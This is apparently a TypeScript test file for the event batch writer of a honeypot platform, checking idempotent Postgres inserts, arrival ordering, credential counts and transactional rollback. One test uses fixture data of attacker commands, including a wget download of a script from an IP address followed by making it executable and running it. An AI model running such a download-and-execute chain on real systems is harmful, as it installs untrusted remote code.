// One batch, one transaction, against real Postgres: redelivered events insert nothing and
// count no attempt twice, derived rows exist only for inserted logs, and a failure anywhere
// in the batch stores nothing of it.
import { parseTrustedProxies } from './bounty.js';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { bounty, credentials, getState, isDataError, logs, observed_attachments, state, type Database } from '@decnet/db';
import { countRows, migratedScratchDatabase, refuseInserts, tableRows, truncateTables } from '@decnet/db/testing';
import type { ScratchDatabase } from '@decnet/testing/postgres';
import { InsertTurns, PROGRESS_STATE_KEY, writeBatch } from './batch-writer.js';
import { authEvent, ingestEvent } from './test-kit.fixture.js';

const options = { trustedProxies: parseTrustedProxies('') as Exclude<ReturnType<typeof parseTrustedProxies>, { invalid: string }> };
let scratch: ScratchDatabase;
let database: Database;

beforeAll(async () => {
  ({ scratch, database } = await migratedScratchDatabase());
});
afterAll(async () => {
  await database.close();
  await scratch.drop();
});
beforeEach(async () => {
  await truncateTables(database, [logs, credentials, bounty, observed_attachments, state]);
});

describe('a batch is idempotent on the event id', () => {
  it('inserts new events and nothing for a redelivered batch', async () => {
    const events = [ingestEvent('a'), ingestEvent('b'), ingestEvent('c')];
    const first = await writeBatch(database.pool, events, options);
    expect(first.inserted.map((e) => e.eventId)).toEqual(['a', 'b', 'c']);
    const again = await writeBatch(database.pool, [ingestEvent('b'), ingestEvent('d')], options);
    expect(again.inserted.map((e) => e.eventId)).toEqual(['d']);
    expect(again.duplicates).toBe(1);
    expect(await countRows(database, logs)).toBe(4);
    const [stored] = await tableRows(database, logs, { match: { event_id: 'a' } });
    const row = stored && { decky: stored.decky, service: stored.service, event_type: stored.event_type, attacker_ip: stored.attacker_ip, fields: stored.fields, timestamp: stored.timestamp };
    expect(row).toEqual({
      decky: 'decky-01',
      service: 'ssh',
      event_type: 'login',
      attacker_ip: '198.51.100.7',
      fields: { n: 'a' },
      timestamp: new Date('2026-05-02T06:00:25Z'),
    });
  });

  it('stores a batch in arrival order, whatever its ids, so logs.id follows what the attacker did', async () => {
    const commands = ['cd /tmp', 'wget http://203.0.113.50/x.sh', 'chmod +x x.sh', '/bin/sh -c ./x.sh', 'exit'];
    // Ids are hashes: their order says nothing about arrival.
    const ids = ['f1', '0a', '9c', '3e', 'b7'];
    await writeBatch(database.pool, commands.map((cmd, i) => ingestEvent(ids[i] as string, { fields: { cmd } })), options);
    const rows = await tableRows(database, logs, { orderBy: [logs.id] });
    expect(rows.map((r) => r.fields.cmd)).toEqual(commands);
  });

  it('keeps arrival order across concurrent batches: a batch inserts after the batches formed before it', async () => {
    const turns = new InsertTurns();
    const first = turns.take();
    const failing = turns.take();
    const third = turns.take();
    // The third batch reaches the database first, the failing one next: each still waits its turn,
    // and a failed insert hands its turn on.
    const late = writeBatch(database.pool, [ingestEvent('c1'), ingestEvent('c2')], options, third);
    const broken = writeBatch(database.pool, [ingestEvent('bad', { at: new Date(Number.NaN) })], options, failing);
    await new Promise((r) => setTimeout(r, 100));
    await writeBatch(database.pool, [ingestEvent('a1'), ingestEvent('a2')], options, first);
    await expect(broken).rejects.toMatchObject({ code: '23502' });
    await late;
    const rows = await tableRows(database, logs, { orderBy: [logs.id] });
    expect(rows.map((r) => r.event_id)).toEqual(['a1', 'a2', 'c1', 'c2']);
  });

  it('stores the remote sender (certificate CN) apart from the syslog hostname', async () => {
    await writeBatch(database.pool, [ingestEvent('tls-1', { sourceWorker: 'agent-07' }), ingestEvent('local-1')], options);
    const rows = (await tableRows(database, logs, { orderBy: [logs.event_id] })).map((r) => ({ event_id: r.event_id, source_worker: r.source_worker }));
    expect(rows).toEqual([
      { event_id: 'local-1', source_worker: null },
      { event_id: 'tls-1', source_worker: 'agent-07' },
    ]);
  });

  it('counts each credential attempt once, however often it is delivered', async () => {
    await writeBatch(database.pool, [authEvent('a', 'pw'), authEvent('b', 'pw')], options);
    await writeBatch(database.pool, [authEvent('a', 'pw'), authEvent('c', 'pw'), authEvent('d', 'other')], options);
    const rows = (await tableRows(database, credentials, { orderBy: [credentials.secret_printable] })).map((r) => ({
      secret_printable: r.secret_printable,
      attempt_count: r.attempt_count,
    }));
    expect(rows).toEqual([
      { secret_printable: 'other', attempt_count: 1 },
      { secret_printable: 'pw', attempt_count: 3 },
    ]);
  });

  it('keeps concurrent batches of overlapping events exact', async () => {
    const events = Array.from({ length: 60 }, (_, i) => authEvent(`e${i}`, `pw${i % 3}`));
    await Promise.all([
      writeBatch(database.pool, events.slice(0, 40), options),
      writeBatch(database.pool, events.slice(20), options),
      writeBatch(database.pool, events.slice(10, 50), options),
    ]);
    expect(await countRows(database, logs)).toBe(60);
    expect((await tableRows(database, credentials)).reduce((n, r) => n + r.attempt_count, 0)).toBe(60);
  });

  it('stores a bounty once per (type, address, payload) and advances the progress row', async () => {
    const mail = (id: string) =>
      ingestEvent(id, {
        service: 'smtp',
        eventType: 'message_stored',
        fields: { stored_as: 'm1.eml', attachments_json: JSON.stringify([{ filename: 'x.PDF', sha256: 'a'.repeat(64) }]) },
      });
    const first = await writeBatch(database.pool, [mail('m1'), mail('m2')], options);
    await writeBatch(database.pool, [mail('m3')], options);
    expect(first.bountiesInserted).toBe(1);
    expect(await countRows(database, bounty)).toBe(1);
    expect((await tableRows(database, observed_attachments)).map((r) => ({ observation_count: r.observation_count, extensions: r.extensions }))).toEqual([
      { observation_count: 3, extensions: ['pdf'] },
    ]);
    const progress = await getState(database.db, PROGRESS_STATE_KEY);
    expect(progress).toMatchObject({ events: 3, batches: 2 });
  });
});

describe('a batch is one transaction', () => {
  it('stores nothing of a batch that fails after its log rows were written', async () => {
    const allow = await refuseInserts(database, bounty, { column: 'payload', key: 'stored_as', equals: 'poison', sqlState: '22023' });
    try {
      const poison = ingestEvent('p', { eventType: 'file_captured', fields: { stored_as: 'poison' } });
      let caught: unknown;
      await writeBatch(database.pool, [authEvent('a', 'pw'), poison], options).catch((err: unknown) => (caught = err));
      expect(isDataError(caught)).toBe(true);
      expect(await countRows(database, logs)).toBe(0);
      expect(await countRows(database, credentials)).toBe(0);
      expect(await countRows(database, state)).toBe(0);
    } finally {
      await allow();
    }
  });
});
